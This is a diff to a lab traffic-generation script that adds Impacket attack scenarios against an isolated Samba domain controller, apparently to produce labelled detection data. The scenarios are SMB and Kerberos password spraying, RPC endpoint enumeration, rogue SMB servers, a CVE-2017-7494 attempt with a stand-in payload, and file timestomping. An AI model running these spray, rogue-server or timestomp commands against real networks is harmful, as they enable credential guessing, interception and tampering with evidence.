@@ -363,6 +363,13 @@ ISL_SCENARIOS=(
   "atk_mssqlclient_tls|attack|010 014|mssql_abuse|mssqlclient.py -windows-auth da_carol to the lab TDS responder with login-only encryption (PRELOGIN ENCRYPT_OFF, the default of SQL Server): TLS handshake in PRELOGIN packets, LOGIN7 (NTLM NEGOTIATE) encrypted, the SSPI AUTHENTICATE and the batches select @@version, xp_cmdshell whoami in cleartext"
   "ben_winrm_ntlm|benign|-|none|Administrator on ws01 runs ipconfig over WinRM with NTLM (Debian's python3-winrm, transport ntlm) against http://dc1:5985/wsman; the lab's stand-in endpoint (Apache + gss-ntlmssp) checks the NTLMv2 response, then answers every POST with an empty 200 (no WS-Management behind it)"
   "ben_http_ntlm|benign|-|none|da_carol and alice on ws01 open http://dc1/certsrv/ with python3-requests-ntlm (plain HTTP NTLM logins to an intranet site, Apache mod_auth_gssapi + gss-ntlmssp)"
+  "atk_spray|attack|010 014|password_spray|password spray over SMB: smbclient.py logs in with one wrong password (Winter2026!) to each of 26 domain accounts in turn (SMB2 SESSION_SETUP NTLM, STATUS_LOGON_FAILURE each)"
+  "atk_spray_kerberos|attack|010 014|password_spray|password spray over Kerberos: getTGT.py with one wrong password (Winter2026!) for each of 26 domain accounts (AS-REQ, KDC_ERR_PREAUTH_REQUIRED, AS-REQ with PA-ENC-TIMESTAMP, KDC_ERR_PREAUTH_FAILED each)"
+  "atk_rpcdump|attack|010 014|rpc_enumeration|rpcdump.py 10.99.0.1 (no credentials): ept_lookup of every entry (inquiry type rpc_c_ep_all_elts, max 500) on 135, repeated with the returned entry handle until the map is exhausted; then rpcdump.py -port 445 (alice): the same loop over \\pipe\\epmapper"
+  "atk_smbserver|attack|010 014|impacket_fingerprint|smbserver.py -smb2support share on the attacker (10.99.0.2); ws01 connects as da_carol with Samba's smbclient and lists the share: Impacket as the SMB server (NEGOTIATE response, NTLM CHALLENGE)"
+  "atk_karmaSMB|attack|010 014|impacket_fingerprint|karmaSMB.py -smb2support <file> on the attacker (10.99.0.2), which answers every file read with that file; ws01 connects as da_carol with Samba's smbclient and reads \\\\10.99.0.2\\share\\report.docx"
+  "atk_sambaPipe|attack|010 014|optional|sambaPipe.py -so lab.so (Administrator): SRVSVC NetrShareEnum level 2, upload of the shared object to the first writable share, NT CREATE of its server path as a pipe (CVE-2017-7494; Samba 4.17 is not vulnerable)"
+  "atk_filetime|attack|014|optional|filetime.py (Administrator) stat, then touch -c -a -w -m -t 2015-01-01_00:00:00.000000 -v on C\$ Windows\\Temp\\loot.txt: SMB2 QUERY_INFO / SET_INFO FileBasicInformation (timestomping)"
 )
 
 isl_scen_field() { local s; for s in "${ISL_SCENARIOS[@]}"; do [ "${s%%|*}" = "$1" ] && { echo "$s" | cut -d'|' -f"$2"; return; }; done; }
@@ -680,6 +687,86 @@ sc_atk_dc2_join_dcsync() {
 post_atk_dc2_join_dcsync() {
   dc2_down
   indc samba-tool domain demote --remove-other-dead-server=$DC2HOST -s "$SMBCONF" >/dev/null 2>&1 || true
+}
+
+# --- password spraying: one wrong password tried once against many accounts, as sprayers built on
+# Impacket's SMBConnection.login / getKerberosTGT do. The accounts besides the lab's own are
+# created once (staff names a sprayer would take from a user list); none of them is locked out
+# (the lab domain has no lockout threshold) and none has the sprayed password.
+SPRAY_PW='Winter2026!'
+SPRAY_STAFF=(j.smith m.jones a.brown s.taylor d.wilson l.evans k.thomas r.roberts e.walker p.wright
+             c.thompson h.white n.hughes t.edwards g.green f.hall o.wood v.harris b.lewis w.martin)
+SPRAY_USERS=(Administrator alice bob da_carol svc_sql svc_web "${SPRAY_STAFF[@]}")
+spray_accounts() {
+  local u
+  for u in "${SPRAY_STAFF[@]}"; do
+    stool user show "$u" >/dev/null 2>&1 || stool user add "$u" "Staff.${u#*.}.Passw0rd!" >/dev/null
+  done
+}
+pre_atk_spray() { spray_accounts; }
+sc_atk_spray() {
+  local u
+  printf 'exit\n' > cmds.txt
+  for u in "${SPRAY_USERS[@]}"; do
+    X "spray-smb-$u" ak $(imp smbclient) "$(smbc_file_opt)" cmds.txt "$D/$u:$SPRAY_PW@$DC_IP" || true
+  done
+}
+pre_atk_spray_kerberos() { spray_accounts; }
+sc_atk_spray_kerberos() {
+  local u
+  for u in "${SPRAY_USERS[@]}"; do
+    X "spray-krb-$u" ak $(imp getTGT) -dc-ip "$DC_IP" "$KD/$u:$SPRAY_PW" || true
+  done
+}
+
+# --- recon and Impacket as a server
+sc_atk_rpcdump() {
+  X rpcdump-135 ak $(imp rpcdump) "$DC_IP" || true
+  X rpcdump-445 ak $(imp rpcdump) -port 445 "$D/alice:$ALICE_PW@$DC_IP" || true
+}
+# srv_start TOOL ARGS...: an Impacket server example on the attacker, in the background until srv_stop
+SRV_PID=
+srv_start() {
+  local t=$1; shift
+  local cmd; cmd="$(imp "$t") $*"
+  printf '+ [%s] (background) ak %s\n' "$t" "$cmd"
+  # shellcheck disable=SC2086
+  ip netns exec $NS_ATK timeout -k 5 "$TOOL_TO" $cmd > server.log 2>&1 < /dev/null &
+  SRV_PID=$!
+  local i; for i in $(seq 1 40); do ip netns exec $NS_ATK ss -Hltn | grep -q ":445 " && break; sleep 0.25; done
+}
+srv_stop() {
+  sleep 1
+  kill -TERM "$SRV_PID" 2>/dev/null || true; wait "$SRV_PID" 2>/dev/null || true; SRV_PID=
+  echo "---- server output"; cat server.log
+}
+sc_atk_smbserver() {
+  mkdir -p share; printf 'quarterly figures\n' > share/report.txt
+  srv_start smbserver -smb2support -ip "$ATK_IP" share "$PWD/share"
+  X victim-smbclient vic smbclient -s "$CLIENTCONF" --use-kerberos=off -U "$DOMAIN\\da_carol%$CAROL_PW" \
+    "//$ATK_IP/share" -c 'ls; get report.txt /dev/null' || true
+  srv_stop
+}
+sc_atk_karmaSMB() {
+  printf 'karma payload\n' > payload.txt
+  srv_start karmaSMB -smb2support "$PWD/payload.txt"
+  X victim-smbclient vic smbclient -s "$CLIENTCONF" --use-kerberos=off -U "$DOMAIN\\da_carol%$CAROL_PW" \
+    "//$ATK_IP/share" -c 'get report.docx /dev/null' || true
+  srv_stop
+}
+# sambaPipe uploads the shared object as it is; this one is a plain file with a .so name (the DC's
+# Samba 4.17 is patched against CVE-2017-7494 and never loads it).
+sc_atk_sambaPipe() {
+  printf 'not a library: lab stand-in for a payload\n' > lab.so
+  X sambaPipe ak $(imp sambaPipe) -so lab.so "$ADMW@$DC_IP" || true
+}
+sc_atk_filetime() {
+  printf 'loot\n' > loot.txt
+  printf 'use C$\ncd Windows\\Temp\nput loot.txt\nexit\n' > cmds.txt
+  X smbclient-put ak $(imp smbclient) "$(smbc_file_opt)" cmds.txt "$ADMW@$DC_IP" || true
+  X filetime-stat ak $(imp filetime) "$ADMW@$DC_IP" 'C$' 'Windows\Temp\loot.txt' stat || true
+  X filetime-touch ak $(imp filetime) "$ADMW@$DC_IP" 'C$' 'Windows\Temp\loot.txt' touch -c -a -w -m \
+    -t 2015-01-01_00:00:00.000000 -v || true
 }
 
 pre_ben_admin_setpassword() { stool user setpassword bob --newpassword="$BOB_PW" >/dev/null; }
